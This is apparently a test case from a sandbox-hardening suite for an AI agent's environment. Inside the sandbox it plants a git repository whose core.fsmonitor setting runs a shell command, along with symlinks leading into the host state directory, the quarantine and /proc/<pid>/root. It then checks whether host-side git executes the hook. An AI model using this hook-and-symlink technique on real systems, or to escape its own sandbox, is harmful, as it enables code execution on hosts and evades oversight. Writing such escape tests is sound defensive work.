"""Makes a repository with a hook in a home that is kept, and links in the project that lead there,
into the quarantine and into a process: whoever enters the link's name stands in what nothing has
judged.

layer: sweep
control: without a sandbox git runs the hook behind the link
"""
import os

NEEDS = ["git"]
OPTIONS = ["--set", "filesystem.home=kept"]


def scene(s):
    s.marker = os.path.join(s.outside, "ran")
    s.state = s.t.state_dir
    s.through = os.path.join(s.ws, "through")
    os.symlink(os.path.dirname(s.state), s.through)	# the person's own link
    s.kept = s.outside if s.control else os.path.join(s.state, "volumes/home/kept")
    s.args = {"marker": s.marker, "state": s.state, "kept": s.kept, "home": s.outside if s.control
              else "/home/agent"}


def attack(a):
    import subprocess
    at = a["home"] + "/repo"
    subprocess.run(["git", "init", "-q", at], check=True)
    subprocess.run(["git", "-C", at, "config", "core.fsmonitor",
                    "touch " + a["marker"] + "; false"], check=True)
    os.symlink(a["kept"] + "/repo", "docs")
    os.symlink("docs", "chain")
    os.symlink("through/" + os.path.basename(a["state"]) + "/volumes/home/kept/repo", "by")
    os.symlink(a["state"] + "/quarantine", "old")
    os.symlink("/proc/%d/root" % os.getppid(), "process")


def escaped(s, r):
    for name in ("docs", "chain", "by"):
        s.t.run("git", "-C", os.path.join(s.ws, name), "status")
    left = [n for n in ("docs", "chain", "by", "old", "process")
            if os.path.lexists(os.path.join(s.ws, n))]
    s.t.say(f"links that are left: {left}, git ran it: {os.path.exists(s.marker)}")
    return os.path.exists(s.marker) if s.control else bool(left) or os.path.exists(s.marker)
